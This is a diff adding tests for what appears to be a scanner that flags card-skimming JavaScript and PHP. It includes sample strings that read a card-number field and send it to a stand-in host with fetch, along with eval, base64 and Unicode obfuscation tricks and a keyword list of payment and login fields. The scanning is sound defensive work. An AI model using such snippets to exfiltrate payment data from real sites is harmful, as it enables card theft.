@@ -189,3 +189,37 @@ def test_the_semantic_words_cover_the_structure_layers_words() -> None:
     # every card, checkout and personal word the structure rules look for contains a word from the list
     for word in ("cc_number", "cvv2", "expiry", "checkout", "onepage", "billing", "password", "telephone"):
         assert any(w in word for w in triage._SEMANTIC_WORDS), word
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "var n = f('#CC_NUMBER'); fetch(u + n); s = '\\x68\\x74\\x74'; x = 'a' + 'b'; o['cookie'];",
+        "\u212aasse: x.src = 1;",  # the Kelvin sign lowers into "k": "kasse" in the lowered text
+        "var \u0130d = 1; check(); new Image().src = u;",  # İ lowers into two characters
+        "カード番号 = v; fetch(u);",
+        "<?php echo BASE64_DECODE('aGk='); $s = \"\\x65\\x76\"; $f = 'ev' . 'al'; ?>",
+        "",
+    ],
+)
+def test_one_needle_scan_answers_as_substring_tests_do(text: str) -> None:
+    # the yara-x needle scan must give what `needle in text` and `needle in text.lower()` give
+    for needles in (triage._JS_NEEDLES, triage._PHP_NEEDLES):
+        present = needles.present(text)
+        assert present.exact == {n for n in needles.exact if n in text}
+        assert present.folded == {n for n in needles.folded if n in text.lower()}
+
+
+def test_markers_and_candidate_share_one_scan_of_a_text(monkeypatch: pytest.MonkeyPatch) -> None:
+    scanned: list[str] = []
+    real = triage._NeedleSet.present
+
+    def counting(self: triage._NeedleSet, text: str) -> triage._Present:
+        scanned.append(text)
+        return real(self, text)
+
+    monkeypatch.setattr(triage._NeedleSet, "present", counting)
+    code = "var n = f('#cc_number').value; fetch('//x.test/?' + n); eval('x');"
+    assert obfuscation_markers(code, JS) == ("eval",) and structure_candidate(code) is True
+    assert scanned == [code]
+    assert structure_candidate(code + " ") is True and len(scanned) == 2  # another text: scanned
